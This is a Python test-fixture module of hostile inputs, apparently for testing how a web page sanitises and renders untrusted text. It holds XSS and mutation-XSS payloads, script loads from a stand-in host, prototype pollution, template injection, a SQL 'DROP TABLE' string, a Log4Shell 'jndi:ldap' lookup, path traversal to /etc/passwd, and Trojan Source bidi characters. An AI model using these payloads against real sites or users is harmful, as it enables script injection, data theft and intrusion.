"""Hostile documents, file names, model replies and strangers' input for a page: a name and a text each.

Executed text calls `ran` or requests elsewhere.example. The forms are those of OWASP's cheat sheet on filter evasion,
of DOMPurify's notes on mutation, of Trojan Source (CVE-2021-42574), and of the Big List of Naughty Strings.
"""

RUN = "window.ran=1"
AT = "http://elsewhere.example"

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script after a script's end": f"</script><script>{RUN}</script>",
    "script from elsewhere": f"<script src={AT}/a.js></script>",
    "script in capitals, cut by a newline": f"<SCRIPT\n>{RUN}</SCRIPT\t>",
    "script of a module": f"<script type=module>import '{AT}/m.js'</script>",
    "half a tag": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image that fails": f"<img src=x onerror={RUN}>",
    "image without an end": f"<img src=x onerror={RUN} ",
    "image that loads": f"<img src={AT}/pixel.gif onload={RUN}>",
    "image by srcset": f"<picture><source srcset={AT}/a.png><img srcset='{AT}/b.png 2x'></picture>",
    "body that loads": f"<body onload={RUN} onpageshow={RUN}>",
    "field that takes the focus": f'"><input autofocus onfocus={RUN}>',
    "attribute that ends": f"' onmouseover='{RUN}' x=\" onclick={RUN} autofocus tabindex=0 onfocus={RUN} ",
    "details that open": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "video that fails": f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    "marquee that starts": f"<marquee onstart={RUN}>x</marquee>",
    "animation that ends": f"<b style='animation:spin 1ms' onanimationend={RUN} ontransitionend={RUN}>x</b>",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>" src=javascript:{RUN}></iframe>',
    "object": f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}>",
    "refresh": f"<meta http-equiv=refresh content='0;url={AT}/'>",
    "base": f"<base href={AT}/><link rel=stylesheet href={AT}/a.css>",
    "form": f"<form action={AT}/><button formaction=javascript:{RUN}>go</button></form>",
    "form that swallows the page": f"<form><textarea>{RUN}<select><option>",
    "dialog": "<dialog open style='position:fixed;inset:0'>API key <input name=key></dialog>",
    "table that breaks out": "</table></div></article></main></body></html><h1>gone</h1>",
    "template": f"<template><script>{RUN}</script></template><slot><div><template shadowrootmode=open>{RUN}</template>",
}
VECTORS = {
    "svg that loads": f"<svg onload={RUN}>",
    "svg with a script": f"<svg><script>{RUN}</script><script href=data:,{RUN} /></svg>",
    "svg with a link": f"<svg><a xlink:href=javascript:{RUN}><text y=20>here</text></a></svg>",
    "svg that animates": f"<svg><animate onbegin={RUN} attributeName=x dur=1s><set onend={RUN}></svg>",
    "svg with a foreign object": f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
    "svg that uses another": f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'/></svg>",
    "mathml": f"<math href=javascript:{RUN}>here</math><math><mtext><script>{RUN}</script></mtext></math>",
    "mutation by style in svg": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation by mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={RUN}>">',
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation by a comment": f"<!--><img src=x onerror={RUN}>--!><!-- <script>{RUN}</script>",
    "comment without an end": f"<!-- <![CDATA[ <?php {RUN} ?>",
    "namespaced": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>',
}
LINKS = {
    "link that runs": f'<a href="javascript:{RUN}">here</a>',
    "address that runs": f"javascript:{RUN}//https://console.aws.amazon.com",
    "address in capitals, cut by a tab": f"JaVa\tScRiPt:{RUN}",
    "address behind control characters": f"\x01\x1fjavascript:{RUN}",
    "address with markup's entities": f"&#106;avascript&colon;{RUN}",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "data address in base64": "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "vbscript address": "vbscript:msgbox(1)",
    "address of a file": "file:///etc/passwd",
    "address without a scheme": "//elsewhere.example/a.js",
    "address of a page elsewhere": f'{AT}/?"><script>{RUN}</script>#</a>',
    "address that deceives": "http://api.example@elsewhere.example/%2e%2e/%00",
    "link of Markdown": f"[here](javascript:{RUN}) ![pixel]({AT}/pixel.gif) <{AT}> [a]: {AT}",
}
STYLES = {
    "style after a style's end": "</style><style>body{display:none}</style>",
    "style that hides": "<style>*{display:none!important}</style>",
    "style that asks": f"<style>@import '{AT}/a.css';body{{background:url({AT}/b.png)}}</style>",
    "style of an element": f'<div style="position:fixed;inset:0;background:url({AT}/c.png);z-index:9999">x</div>',
    "width of a bar": "100%;position:fixed;inset:0;background:red;expression(alert(1))",
    "style that runs": f"}}*{{-moz-binding:url({AT}/x#y);behavior:url({AT}/z)}}",
}
NAMES = {
    "id of the page's": "<img id=turns name=question><a id=key-dialog name=byId><form name=document><input name=fetch>",
    "clobbered globals": "<a id=sessionStorage><a id=sessionStorage name=getItem href=cid:x>",
    "prototype": "__proto__",
    "constructor": "constructor",
    "method of every object": "toString",
    "prototype in JSON": '{"__proto__":{"ran":1},"constructor":{"prototype":{"ran":1}}}',
    "expression of a template": f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %> #{{{RUN}}}",
    "quotes": "'\"`\\'; DROP TABLE answers; -- ${jndi:ldap://elsewhere.example/a}",
    "path of a parent": "../../../etc/passwd",
    "markup in entities": f"&#60;img src=x onerror={RUN}&#62; &lt;i&gt; &amp;amp; &NewLine;",
}
LETTERS = {
    "name from the right": "\u202efdp.exe",
    "overrides without an end": "\u202a\u202b\u202c\u202d\u202e" * 20 + "gnp.exe",
    "isolates without an end": "\u2066\u2067\u2068\u2067\u2066" * 20 + " right to left \u200f",
    "isolates that end too often": "\u2069\u202c" * 50 + "x",
    "Hebrew and Arabic": "\u05d0\u05d1\u05d2 (abc) 123 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>bold</b>",
    "nothing to see": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u2800",
    "marks upon marks": "Z\u0300\u0301\u0302\u0310\u0315\u031b\u0323\u0489" + "\u0301\u0323" * 400 + "algo",
    "a family of a thousand": "\U0001f469\u200d\U0001f52c" * 1000 + "<u>",
    "half a letter": "\ud800 and \udfff<b>",
    "zero and other controls": "a\0b\x01\x07\x08\x0b\x0c\x1b[31m\x7f\x85\u2028\u2029\ufffe\uffff<b>",
    "tags and variations": "\U000e0041\U000e007f\ufe0f" * 50 + "x",
    "Arabic that is one letter wide": "\ufdfd" * 200,
    "no break in a hundred thousand letters": "a" * 100_000,
    "fifty thousand wide letters": "\u6f22" * 50_000,
    "no break where one could be": "\u00a0\u2060\u6f22" * 300,
    "five thousand lines": "line <b>\n" * 5000,
    "tabs": "\t" * 2000 + "x",
    "a line of dashes": "\u2014\u2011" * 5000,
    "letters from below": "W\u0316\u0317\u0318" * 3000,
}
CASES = {**MARKUP, **VECTORS, **LINKS, **STYLES, **NAMES, **LETTERS}
